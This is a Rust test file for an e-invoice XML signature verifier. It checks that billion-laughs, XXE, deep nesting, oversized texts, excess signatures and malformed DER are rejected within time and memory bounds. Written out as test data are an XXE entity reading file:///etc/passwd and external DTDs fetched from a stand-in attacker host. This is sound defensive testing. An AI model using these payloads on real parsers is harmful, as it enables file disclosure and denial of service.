//! Hostile input (issue #6, item 2): documents built to exhaust the
//! verifier — entity expansion, external entities, deep nesting, huge
//! attributes and texts, thousands of signatures or items, DER with absurd
//! lengths. Each must get INVALID with a reason naming the problem, within
//! a bounded time and a bounded amount of memory.
//!
//! Memory is measured natively: this test binary counts the heap bytes of
//! the thread that runs the verifier (a counting `#[global_allocator]`) and
//! asserts the peak for every input. The WebAssembly module runs the same
//! code with the same allocations (plus its allocator's bookkeeping);
//! `host-cli/tests/wasm_memory.rs` measures the instance's linear memory for
//! the worst of these inputs (`piaoyan_tests::hostile::worst_cases`). A zip entry that declares 1 GB belongs to the
//! CLI's zip input and the OFD issue: the core takes no archives.

use std::alloc::{GlobalAlloc, Layout, System};
use std::cell::Cell;
use std::time::{Duration, Instant};

use piaoyan_core::report::Report;
use piaoyan_core::{Limits, SubIndication, Verdict, Verifier, VerifyOptions};
use piaoyan_tests::fixture::*;
use piaoyan_tests::hostile::{self, options, pki, signed, with_declaration};

// ---------------------------------------------------------------------------
// Heap accounting, per thread (tests run on several threads at once).

struct Counting;

thread_local! {
    static CURRENT: Cell<isize> = const { Cell::new(0) };
    static PEAK: Cell<isize> = const { Cell::new(0) };
}

fn grew(bytes: usize) {
    let _ = CURRENT.try_with(|c| {
        let now = c.get() + bytes as isize;
        c.set(now);
        let _ = PEAK.try_with(|p| {
            if now > p.get() {
                p.set(now);
            }
        });
    });
}

fn shrank(bytes: usize) {
    let _ = CURRENT.try_with(|c| c.set(c.get() - bytes as isize));
}

// SAFETY: every call is forwarded to the system allocator unchanged; the
// bookkeeping touches only const-initialised thread-locals without
// destructors, which never allocate.
unsafe impl GlobalAlloc for Counting {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        // SAFETY: same contract as ours.
        let p = unsafe { System.alloc(layout) };
        if !p.is_null() {
            grew(layout.size());
        }
        p
    }

    unsafe fn alloc_zeroed(&self, layout: Layout) -> *mut u8 {
        // SAFETY: same contract as ours.
        let p = unsafe { System.alloc_zeroed(layout) };
        if !p.is_null() {
            grew(layout.size());
        }
        p
    }

    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
        // SAFETY: same contract as ours.
        unsafe { System.dealloc(ptr, layout) };
        shrank(layout.size());
    }

    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
        // SAFETY: same contract as ours.
        let p = unsafe { System.realloc(ptr, layout, new_size) };
        if !p.is_null() {
            shrank(layout.size());
            grew(new_size);
        }
        p
    }
}

#[global_allocator]
static ALLOCATOR: Counting = Counting;

/// Runs `f` and returns its result with the peak heap growth (bytes above
/// what the thread held before) and the time it took.
fn measured<T>(f: impl FnOnce() -> T) -> (T, usize, Duration) {
    let base = CURRENT.with(Cell::get);
    PEAK.with(|p| p.set(base));
    let start = Instant::now();
    let out = f();
    let elapsed = start.elapsed();
    let peak = PEAK.with(Cell::get) - base;
    (out, peak.max(0) as usize, elapsed)
}

/// Heap bound for one verification of any input (spec §8 bounds at their
/// defaults): 64 MiB.
const MEMORY_BOUND: usize = 64 << 20;

/// Time bound for one verification. Generous: the core is unoptimised in
/// test builds and the machine may be busy; a quadratic blow-up or a hang
/// takes minutes.
const TIME_BOUND: Duration = Duration::from_secs(20);

// ---------------------------------------------------------------------------
// Bills and verification.

/// Verifies `input` with the hostile PKI, within the time and memory
/// bounds; returns the report and the peak heap.
fn verify_bounded(what: &str, input: &[u8]) -> (Report, usize) {
    let verifier = Verifier::new(&options(&pki())).unwrap();
    let (report, peak, elapsed) = measured(|| verifier.verify(input));
    println!(
        "{what:<44} {:>9} bytes in, peak heap {:>6} KiB, {:>6} ms: {:?}/{:?}",
        input.len(),
        peak >> 10,
        elapsed.as_millis(),
        report.verdict,
        report.sub_indication
    );
    assert!(
        elapsed < TIME_BOUND,
        "{what}: took {elapsed:?}, above {TIME_BOUND:?}"
    );
    assert!(
        peak < MEMORY_BOUND,
        "{what}: peak heap {peak} bytes, above {MEMORY_BOUND}"
    );
    (report, peak)
}

/// INVALID / FORMAT_FAILURE with the failed check `check` whose English
/// message contains `says`.
fn expect_format_failure(what: &str, input: &[u8], check: &str, says: &str) -> usize {
    let (r, peak) = verify_bounded(what, input);
    assert_eq!(
        (r.verdict, r.sub_indication),
        (Verdict::Invalid, Some(SubIndication::FormatFailure)),
        "{what}: {}",
        r.reason.en
    );
    assert_eq!(r.checks.len(), 1, "{what}: one failed check stands alone");
    assert_eq!(r.checks[0].id, check, "{what}: {}", r.reason.en);
    assert!(
        r.reason.en.contains(says) && r.checks[0].message.en.contains(says),
        "{what}: the reason {:?} does not say {says:?}",
        r.reason.en
    );
    assert!(!r.reason.zh.is_empty());
    peak
}

/// INVALID / FORMAT_FAILURE decided by a signature (the document parsed),
/// with a reason that contains `says`.
fn expect_signature_format_failure(what: &str, input: &[u8], says: &str) -> usize {
    let (r, peak) = verify_bounded(what, input);
    assert_eq!(
        (r.verdict, r.sub_indication),
        (Verdict::Invalid, Some(SubIndication::FormatFailure)),
        "{what}: {}",
        r.reason.en
    );
    assert!(
        r.reason.en.contains(says),
        "{what}: the reason {:?} does not say {says:?}",
        r.reason.en
    );
    peak
}

// ---------------------------------------------------------------------------
// Entities and DTDs.

#[test]
fn billion_laughs_is_rejected_before_any_expansion() {
    let bill = hostile::billion_laughs();
    let peak = expect_format_failure("billion laughs", &bill, "document.dtd", "DOCTYPE");
    assert!(peak < 1 << 20, "nothing was expanded: {peak} bytes");
    // Quadratic blow-up: one big entity referenced many times.
    let big = format!(
        "<!DOCTYPE EInvoice [<!ENTITY a \"{}\">]>",
        "x".repeat(50_000)
    );
    let refs = format!("<PayMode>{}", "&a;".repeat(50_000));
    let bill = replace_first(&with_declaration(&big), "<PayMode>", &refs);
    expect_format_failure("quadratic entity blow-up", &bill, "document.dtd", "DOCTYPE");
}

#[test]
fn external_entities_and_dtds_are_never_fetched() {
    let cases = [
        (
            "external entity (XXE)",
            "<!DOCTYPE EInvoice [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>",
            "&xxe;",
        ),
        (
            "external parameter entity",
            "<!DOCTYPE EInvoice [<!ENTITY % p SYSTEM \"http://attacker.invalid/p.dtd\"> %p;]>",
            "",
        ),
        (
            "external DTD",
            "<!DOCTYPE EInvoice SYSTEM \"http://attacker.invalid/bill.dtd\">",
            "",
        ),
        (
            "public DTD",
            "<!DOCTYPE EInvoice PUBLIC \"-//X//Y\" \"http://attacker.invalid/y.dtd\">",
            "",
        ),
    ];
    for (what, dtd, reference) in cases {
        let bill = replace_first(
            &with_declaration(dtd),
            "<PayMode>",
            &format!("<PayMode>{reference}"),
        );
        expect_format_failure(what, &bill, "document.dtd", "DOCTYPE");
    }
    // An entity reference with no DTD at all is not well-formed XML.
    let bill = replace_first(&signed(|_| {}), "<PayMode>", "<PayMode>&xxe;");
    expect_format_failure(
        "undeclared entity",
        &bill,
        "document.xml",
        "not well-formed",
    );
}

// ---------------------------------------------------------------------------
// Structure bounds (spec §8).

#[test]
fn deep_nesting_is_bounded() {
    let nest = |n: usize| format!("{}x{}", "<N>".repeat(n), "</N>".repeat(n));
    // MainExt is depth 4; 60 more levels reach 64, one more is too deep.
    let at = |n: usize| format!("{}<MedicalType>", nest(n));
    let ok = replace_first(&signed(|_| {}), "<MedicalType>", &at(60));
    let (r, _) = verify_bounded("depth 64", &ok);
    assert_ne!(r.checks[0].id, "limits.depth", "depth 64 is allowed");
    let deep = replace_first(&signed(|_| {}), "<MedicalType>", &at(61));
    expect_format_failure("depth 65", &deep, "limits.depth", "depth bound of 64");
    // 300 000 levels: no recursion anywhere may overflow the stack.
    let very = replace_first(&signed(|_| {}), "<MedicalType>", &at(300_000));
    expect_format_failure("depth 300 000", &very, "limits.depth", "depth bound of 64");
    // Unclosed nesting up to the input bound: refused before any tree is
    // built (the parser used to build 400 000 nodes, 100 MiB, first).
    let unclosed = hostile::unclosed_elements();
    let peak = expect_format_failure(
        "1.3 million unclosed elements",
        &unclosed,
        "limits.depth",
        "depth bound of 64",
    );
    assert!(peak < 1 << 20, "{peak} bytes");
}

#[test]
fn huge_attributes_and_texts_are_bounded() {
    let max = Limits::default().max_text_bytes;
    let long = "x".repeat(max + 1);
    let bill = replace_first(&signed(|_| {}), "<PayMode>", &format!("<PayMode>{long}"));
    expect_format_failure("text of 64 KiB + 1", &bill, "limits.textLength", "65536");
    let attr = replace_first(
        &signed(|_| {}),
        "<Main>",
        &format!("<Main note=\"{long}\">"),
    );
    expect_format_failure(
        "attribute of 64 KiB + 1",
        &attr,
        "limits.textLength",
        "65536",
    );
    let sig = replace_first(
        &signed(|_| {}),
        "Id=\"Supervisor\"",
        &format!("Id=\"Supervisor{long}\""),
    );
    expect_format_failure(
        "Signature Id of 64 KiB + 1",
        &sig,
        "limits.textLength",
        "65536",
    );
    // A text node of 64 KiB made of character references (each decodes to
    // three octets: 192 KiB decoded).
    let refs = "&#x4E2D;".repeat(max / 3 + 1);
    let bill = replace_first(&signed(|_| {}), "<PayMode>", &format!("<PayMode>{refs}"));
    expect_format_failure(
        "decoded text above 64 KiB",
        &bill,
        "limits.textLength",
        "65536",
    );
    // The input bound: 4 MiB + 1.
    let mut big = signed(|_| {});
    big.resize(Limits::default().max_input_bytes + 1, b' ');
    expect_format_failure("input of 4 MiB + 1", &big, "limits.inputSize", "4194304");
}

#[test]
fn many_attributes_or_namespace_declarations_are_bounded() {
    // Attribute names must differ (a duplicate is an error at once), and
    // the XML parser checks each new one against the others of its
    // element: 300 000 of them took minutes before this bound.
    expect_format_failure(
        "300 000 attributes on one element",
        &hostile::many_attributes(),
        "limits.attributes",
        "attributes per element",
    );
    // Namespace declarations in scope are copied and compared at every
    // element that declares one more.
    let ns: String = (0..60_000)
        .map(|i| format!(" xmlns:p{i:x}=\"u\""))
        .collect();
    let bill = replace_first(&signed(|_| {}), "<EInvoice>", &format!("<EInvoice{ns}>"));
    let bill = replace_first(&bill, "<Main>", "<Main xmlns:q=\"u\">");
    expect_format_failure(
        "60 000 namespace declarations on one element",
        &bill,
        "limits.attributes",
        "attributes per element",
    );
    let spread: String = (0..65).map(|i| format!("<p{i} xmlns=\"u\"/>")).collect();
    let bill = replace_first(
        &signed(|_| {}),
        "<EInvoiceSignature>",
        &format!("{spread}<EInvoiceSignature>"),
    );
    expect_format_failure(
        "65 namespace declarations on 65 elements",
        &bill,
        "limits.attributes",
        "namespace declarations",
    );
}

#[test]
fn element_and_item_counts_are_bounded() {
    expect_format_failure(
        "100 000 extra elements",
        &hostile::extra_elements(),
        "limits.elements",
        "element count bound of 100000",
    );
    // Text and comment nodes count against the node bound (4 per element).
    expect_format_failure(
        "400 200 text and comment nodes",
        &hostile::text_and_comment_nodes(),
        "limits.elements",
        "element count bound of 100000",
    );
    expect_format_failure(
        "10 003 items",
        &hostile::too_many_items(),
        "limits.items",
        "bound of 10000",
    );
}

#[test]
fn thousands_of_signatures_are_a_format_failure() {
    expect_format_failure(
        "2 002 complete Signature elements",
        &hostile::many_signatures(),
        "document.signatures",
        "exactly two Signature elements, found 2002",
    );
    let bill = signed(|_| {});
    let sup =
        element_range(&bill, "<Signature Id=\"Supervisor\"", "</Signature>").expect("supervisor");
    let empty = "<Signature Id=\"Supervisor\"/>".repeat(50_000);
    let many = [&bill[..sup.end], empty.as_bytes(), &bill[sup.end..]].concat();
    expect_format_failure(
        "50 002 Signature elements",
        &many,
        "document.signatures",
        "found 50002",
    );
}

/// The heaviest input within every bound: 10 000 items (the bound), texts
/// filling the input to nearly 4 MiB, correctly signed. It must verify —
/// and within the time and memory bounds, which makes it the worst case
/// for memory (the bill model, the rules and the report hold it all).
#[test]
fn the_largest_valid_bill_verifies_within_the_bounds() {
    let limits = Limits::default();
    let xml = hostile::largest_valid_bill(&pki());
    assert!(
        xml.len() > 3 * (1 << 20) && xml.len() <= limits.max_input_bytes,
        "{} bytes",
        xml.len()
    );
    let (r, peak) = verify_bounded("largest valid bill (10 000 items)", &xml);
    assert_eq!(r.verdict, Verdict::Valid, "{}", r.reason.en);
    assert_eq!(r.bill.as_ref().unwrap().items.len(), limits.max_items);
    println!("worst case: {} MiB peak heap", peak >> 20);
}

// ---------------------------------------------------------------------------
// DER with absurd lengths.

fn b64(bytes: &[u8]) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

/// `bill` with the `SignatureValue` of the signature `id` replaced.
fn with_signature_value(bill: &[u8], id: &str, octets: &[u8]) -> Vec<u8> {
    let value = signature_value(bill, id).expect("signature value");
    replace_first(bill, &b64(&value), &b64(octets))
}

/// DER nested `depth` SEQUENCEs deep.
fn nested_sequences(depth: usize) -> Vec<u8> {
    let mut der = vec![0x05, 0x00];
    for _ in 0..depth {
        let len = der.len();
        let mut head = vec![0x30];
        if len < 0x80 {
            head.push(len as u8);
        } else {
            let bytes: Vec<u8> = len
                .to_be_bytes()
                .into_iter()
                .skip_while(|b| *b == 0)
                .collect();
            head.push(0x80 | bytes.len() as u8);
            head.extend(bytes);
        }
        head.extend(der);
        der = head;
    }
    der
}

#[test]
fn der_with_absurd_lengths_is_a_format_failure() {
    let bill = signed(|_| {});
    let absurd: Vec<(&str, Vec<u8>)> = vec![
        (
            "length 2^31 - 1",
            vec![0x30, 0x84, 0x7F, 0xFF, 0xFF, 0xFF, 0x02, 0x01, 0x01],
        ),
        (
            "length 2^32 - 1",
            vec![0x30, 0x84, 0xFF, 0xFF, 0xFF, 0xFF, 0x02, 0x01],
        ),
        (
            "length of 9 octets",
            vec![
                0x30, 0x89, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF,
            ],
        ),
        (
            "indefinite length",
            vec![0x30, 0x80, 0x02, 0x01, 0x01, 0x00, 0x00],
        ),
        (
            "inner length beyond the outer",
            vec![0x30, 0x06, 0x02, 0x84, 0x7F, 0xFF, 0xFF, 0xFF],
        ),
        ("nesting 10 000 deep", nested_sequences(10_000)),
    ];
    for (what, der) in &absurd {
        // The unit's DETACH value (a CMS).
        let b = with_signature_value(&bill, "InvoicingParty", der);
        expect_signature_format_failure(&format!("CMS: {what}"), &b, "CMS structure");
        // The supervisor's RAW value (a bare signature).
        let b = with_signature_value(&bill, "Supervisor", der);
        expect_signature_format_failure(
            &format!("RAW signature: {what}"),
            &b,
            "neither DER nor 64-octet",
        );
        // A certificate in KeyInfo.
        let at = element_range(&bill, "<X509Certificate>", "</X509Certificate>").unwrap();
        let element = format!("<X509Certificate>{}</X509Certificate>", b64(der));
        let b = [&bill[..at.start], element.as_bytes(), &bill[at.end..]].concat();
        expect_signature_format_failure(
            &format!("KeyInfo certificate: {what}"),
            &b,
            "not a valid X.509 certificate",
        );
    }
    // A CMS whose first certificate claims 2 GiB. The second `[0]` with a
    // two-octet length is SignedData.certificates (the first is
    // ContentInfo.content).
    let value = signature_value(&bill, "InvoicingParty").unwrap();
    let cert_at = value
        .windows(2)
        .enumerate()
        .filter(|(_, w)| *w == [0xA0, 0x82])
        .nth(1)
        .expect("certificates [0]")
        .0;
    assert_eq!(value[cert_at + 4..cert_at + 6], [0x30, 0x82]);
    let mut broken = value.clone();
    broken[cert_at + 4..cert_at + 8].copy_from_slice(&[0x30, 0x84, 0x7F, 0xFF]);
    let b = with_signature_value(&bill, "InvoicingParty", &broken);
    expect_signature_format_failure("CMS certificate of 2 GiB", &b, "CMS structure");
}

#[test]
fn absurd_trust_material_is_a_host_error_not_a_panic() {
    for der in [
        vec![0x30, 0x84, 0x7F, 0xFF, 0xFF, 0xFF],
        nested_sequences(100_000),
        Vec::new(),
    ] {
        let options = VerifyOptions {
            trust_anchors: vec![der.clone()],
            ..Default::default()
        };
        let e = Verifier::new(&options).err().expect("rejected");
        assert_eq!(e.code, "OPTIONS_CERTIFICATE");
        let options = VerifyOptions {
            crls: vec![der],
            ..Default::default()
        };
        assert!(Verifier::new(&options).is_err());
    }
}
